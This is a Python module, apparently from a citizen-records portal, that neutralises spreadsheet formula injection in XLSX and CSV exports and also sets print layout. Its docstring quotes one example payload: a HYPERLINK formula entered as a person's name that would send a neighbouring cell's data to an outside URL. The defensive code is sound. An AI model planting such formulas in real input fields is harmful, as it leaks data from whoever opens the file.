"""Spreadsheet files that never turn what someone typed into a formula.

A spreadsheet reads a cell that begins with =, +, -, @, a tab or a carriage return as a formula
(or as the start of one, in CSV): a citizen named `=HYPERLINK("http://…?d="&B2,"Bấm vào đây")`
would become a live link leaking the next cell. Every file the project exports is written
through this module: XLSX cells holding such text are stored as text with Excel's quote prefix
(shown as typed, still text if edited), CSV cells get a leading apostrophe, the convention
spreadsheet programs read as "text". It lives in portal/ so that the dossier core (the Mẫu 06
register) and the reports use the same rule.
"""

from __future__ import annotations

import io
from collections.abc import Iterable
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def _as_text(cell: Any) -> None:
    cell.data_type = "s"
    cell.quotePrefix = True


def workbook_bytes(wb: Workbook) -> bytes:
    """The XLSX file of `wb`, every formula-like text cell stored as text.

    Walks every cell of every (ordinary) sheet just before saving, so no writer can forget
    it; write-only sheets cannot be walked and are written with `write_only_row`.
    """
    if not wb.write_only:
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if formula_like(cell.value):
                        _as_text(cell)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def write_only_row(ws: Any, values: Iterable[Any]) -> list[Any]:
    """A row for a write-only sheet's `append`, formula-like text as text cells."""
    row = []
    for value in values:
        if formula_like(value):
            cell = WriteOnlyCell(ws, value=value)
            _as_text(cell)
            row.append(cell)
        else:
            row.append(value)
    return row


def csv_value(value: Any) -> Any:
    """A CSV cell: None as empty, formula-like text behind an apostrophe."""
    if value is None:
        return ""
    if formula_like(value):
        return "'" + value
    return value


def print_setup(ws: Any, *, title_rows: str) -> None:
    """A4 landscape, fitted to one page wide, `title_rows` (e.g. "5:8") repeated on every
    printed page."""
    ws.page_setup.orientation = ws.ORIENTATION_LANDSCAPE
    ws.page_setup.paperSize = ws.PAPERSIZE_A4
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 0  # as many pages tall as needed
    ws.sheet_properties.pageSetUpPr.fitToPage = True
    ws.print_title_rows = title_rows
    ws.print_options.horizontalCentered = True
